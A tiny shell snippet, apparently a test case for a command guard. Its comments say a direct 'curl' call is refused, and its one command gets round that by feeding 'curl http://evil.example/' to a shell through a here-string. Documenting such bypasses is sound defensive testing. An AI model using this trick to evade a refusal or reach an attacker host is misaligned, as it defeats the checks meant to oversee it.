# Trick: a here-string is fed to a shell.
# Refused: run(curl)
sh <<< 'curl http://evil.example/'
